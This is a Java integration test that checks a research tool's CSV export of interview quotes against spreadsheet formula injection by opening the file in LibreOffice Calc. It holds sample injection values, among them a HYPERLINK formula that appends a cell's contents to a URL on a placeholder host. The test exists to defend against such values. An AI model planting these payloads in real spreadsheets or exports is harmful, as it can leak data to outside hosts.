package weft.render.evidence;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import weft.build.BuildResult;
import weft.support.LibreOffice;
import weft.support.TestProjects;

/**
 * The evidence's spreadsheet opened in a real spreadsheet program, LibreOffice Calc (which, as Excel does, runs a value
 * that begins with "=" as a formula when it opens a CSV file): quotes written to be formulas, a quote with commas,
 * quotation marks and a line break, and words outside ASCII come back as the same text, in their cells, and no cell is
 * a formula.
 */
class QuoteSheetIT {

    static final List<String> HOSTILE = List.of("=HYPERLINK(\"http://example.invalid/?\"&A1,\"Open\")", "+1+1 said she",
            "@SUM(1,2)", "-2+3");
    static final String AWKWARD = "She said \"no\", then, after a while,\nshe laughed – äiti, 家族";

    @TempDir
    Path temp;

    private static List<List<Object>> cells(byte[] xlsx) throws Exception {
        List<List<Object>> rows = new ArrayList<>();
        try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
            Sheet sheet = book.getSheetAt(0);
            for (Row row : sheet) {
                List<Object> values = new ArrayList<>();
                for (int i = 0; i < row.getLastCellNum(); i++) {
                    Cell cell = row.getCell(i);
                    values.add(cell == null ? "" : cell.getCellType() == CellType.FORMULA ? cell
                            : cell.getCellType() == CellType.NUMERIC ? cell.getNumericCellValue() : cell.getStringCellValue());
                }
                rows.add(values);
            }
        }
        return rows;
    }

    @Test
    void calc_opens_every_quote_as_the_text_it_is_and_runs_none_as_a_formula() throws Exception {
        Path project = TestProjects.copy(TestProjects.fixture("mini-study"), temp.resolve("study"));
        Path quotes = project.resolve("coded-data/quotes/quotes.yaml");
        String yaml = Files.readString(quotes)
                .replace("text: We cook on Sundays & everyone brings <something>", "text: " + quoted(AWKWARD));
        StringBuilder added = new StringBuilder(yaml);
        for (int i = 0; i < HOSTILE.size(); i++) {
            added.append("  - id: hostile-").append(i + 1).append("\n    text: ").append(quoted(HOSTILE.get(i)))
                    .append("\n    codes: [dishes]\n    presented: false\n    source: {recorded: false, note: Added by a test.}\n");
        }
        Files.writeString(quotes, added);
        BuildResult result = TestProjects.render(project);
        assertThat(result.succeeded()).as("%s", result.diagnostics()).isTrue();
        byte[] csv = result.publication().orElseThrow().files().get("evidence/quotes.csv");

        List<List<Object>> sheet = cells(LibreOffice.csvToXlsx(csv));
        assertThat(sheet).hasSize(QuoteSheetTest.rows(csv).size()).hasSize(10);
        assertThat(sheet).flatExtracting(row -> row).noneMatch(Cell.class::isInstance);
        assertThat(sheet.get(0)).startsWith("quote_id", "text", "participant");
        assertThat(sheet.get(1)).startsWith("we-cook", AWKWARD);
        assertThat(sheet.subList(6, 10)).extracting(row -> row.get(1))
                .containsExactlyElementsOf(HOSTILE.stream().map(h -> "'" + h).toList());

        // the contrast: the same program runs a value written as it is as a formula
        byte[] raw = ("\uFEFFquote_id,text\r\nhostile-1," + "\"" + HOSTILE.get(0).replace("\"", "\"\"") + "\"\r\n")
                .getBytes(StandardCharsets.UTF_8);
        assertThat(cells(LibreOffice.csvToXlsx(raw)).get(1).get(1)).isInstanceOf(Cell.class);
    }

    private static String quoted(String text) {
        return "\"" + text.replace("\\", "\\\\").replace("\"", "\\\"").replace("\n", "\\n") + "\"";
    }
}
